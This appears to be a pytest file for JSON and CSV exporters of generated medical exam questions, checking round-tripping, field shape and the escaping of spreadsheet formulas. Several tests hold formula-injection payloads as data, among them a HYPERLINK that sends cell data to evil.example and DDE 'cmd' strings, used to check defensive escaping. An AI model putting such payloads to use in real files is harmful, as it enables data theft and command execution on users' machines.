"""The JSON and CSV exports: their shape, CSV that round-trips and cannot run formulas."""

from __future__ import annotations

import csv
import io
import json

import pytest

from batches.exports import csv as csv_export
from batches.exports import json as json_export
from batches.exports.records import Record
from batches.models import BatchJob
from tests.fakes import question_args, review_args

TRICKY_STEM = 'A "quoted", comma-laden stem\nover two lines: Na⁺/K⁺-ATPase in µmol — ✓'


def record(index: int = 0, *, issues=("Lead-in, vague",), spec=None, **question) -> Record:
    return Record(
        item_id=index + 100,
        index=index,
        status="completed",
        review_status="approved",
        edited=True,
        question=question_args(**question),
        review=review_args(issues=list(issues)),
        spec=spec,
    )


def csv_rows(*records: Record) -> list[dict[str, str]]:
    text = csv_export.render(BatchJob(), records).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_header_has_the_question_the_review_the_review_status_and_the_spec():
    text = csv_export.render(BatchJob(), []).decode()
    header = next(csv.reader(io.StringIO(text)))
    assert header == csv_export.COLUMNS
    assert header[:8] == ["index", "stem", *(f"option_{x}" for x in "abcde"), "correct_answer"]
    assert {"explanation", "review_score", "review_verdict", "review_status", "spec"} <= set(header)


def test_csv_round_trips_quotes_commas_newlines_unicode_review_status_and_spec():
    spec = {"focus": "loop diuretics", "bloom_level": "apply"}
    [row] = csv_rows(record(7, stem=TRICKY_STEM, spec=spec))
    question = question_args()
    assert row["index"] == "7"
    assert row["stem"] == TRICKY_STEM
    assert [row[f"option_{label}"] for label in "abcde"] == [o["text"] for o in question["options"]]
    assert row["correct_answer"] == question["correct_answer"]
    assert (row["review_score"], row["review_verdict"]) == ("4", "accept")
    assert row["review_issues"] == "Lead-in, vague"
    assert (row["review_status"], row["edited"]) == ("approved", "yes")
    assert json.loads(row["spec"]) == spec


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_escapes_a_stem_a_spreadsheet_would_run_as_a_formula(prefix):
    payload = prefix + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    [row] = csv_rows(record(stem=payload))
    assert row["stem"] == "'" + payload


def test_csv_escapes_formulas_in_options_explanation_and_review_issues():
    options = [{"label": label, "text": f"=cmd|' /C calc'!A{label}"} for label in "ABCDE"]
    [row] = csv_rows(record(options=options, explanation="@SUM(1+1)*cmd", issues=["+1 style"]))
    escaped = [row[f"option_{label}"] for label in "abcde"] + [row["explanation"]]
    assert all(cell.startswith("'") for cell in [*escaped, row["review_issues"]])


@pytest.mark.parametrize("value", ["Renal physiology", "a = b + c", "", 4, None])
def test_safe_cell_leaves_text_without_a_leading_formula_character_alone(value):
    assert csv_export.safe_cell(value) == value


def test_json_is_a_list_of_questions_with_index_review_review_status_and_spec():
    spec = {"bloom_level": "apply"}
    batch = BatchJob(scope={"topic": "Renal <physiology>"})
    records = json.loads(json_export.render(batch, [record(0, spec=spec), record(3)]))
    assert [r["index"] for r in records] == [0, 3]
    assert records[0] == {
        "index": 0,
        "number": 1,
        "id": f"batchgen-{batch.pk}-i0000",
        "name": "Renal physiology · 1",
        **question_args(),
        "tags": ["Renal physiology", "bloom:apply", f"difficulty:{question_args()['difficulty']}"],
        "objective": None,
        "bloom_level": "apply",
        "citation": None,
        "review": review_args(issues=["Lead-in, vague"]),
        "status": "completed",
        "review_status": "approved",
        "edited": True,
        "spec": spec,
    }
    assert records[1]["number"] == 4


CITATION = {
    "source": 3,
    "name": "Guyton",
    "passage": 9,
    "page": "12",
    "section": "Renal",
    "quote": "=1+1",
}


def test_json_and_csv_carry_objective_bloom_level_difficulty_and_citation():
    spec = {"objective": "Treat hyperkalaemia", "bloom_level": "apply", "difficulty": "hard"}
    one = Record(**{**record(4, spec=spec).__dict__, "citation": CITATION})
    [as_json] = json.loads(json_export.render(BatchJob(), [one]))
    assert (as_json["objective"], as_json["bloom_level"], as_json["difficulty"]) == (
        "Treat hyperkalaemia",
        "apply",
        "hard",
    )
    assert as_json["citation"] == CITATION
    assert as_json["tags"][1:] == [
        "objective:Treat hyperkalaemia",
        "bloom:apply",
        "difficulty:hard",
    ]
    [row] = csv_rows(one)
    assert (row["number"], row["objective"], row["bloom_level"], row["difficulty"]) == (
        "5",
        "Treat hyperkalaemia",
        "apply",
        "hard",
    )
    assert [row[f"citation_{k}"] for k in CITATION] == ["3", "Guyton", "9", "12", "Renal", "'=1+1"]


def test_difficulty_falls_back_to_the_question_then_the_batch():
    bare = Record(**{**record(0).__dict__, "question": {"stem": "s"}, "batch_difficulty": "easy"})
    assert bare.difficulty == "easy"
    assert record(0).difficulty == question_args()["difficulty"]


def test_json_writes_non_ascii_text_as_is():
    text = json_export.render(BatchJob(), [record(stem=TRICKY_STEM)]).decode()
    assert "Na⁺/K⁺-ATPase" in text
    assert json.loads(text)[0]["stem"] == TRICKY_STEM


def test_empty_exports_are_an_empty_list_and_a_header():
    assert json.loads(json_export.render(BatchJob(), [])) == []
    lines = csv_export.render(BatchJob(), []).decode().splitlines()
    assert lines == [",".join(csv_export.COLUMNS)]
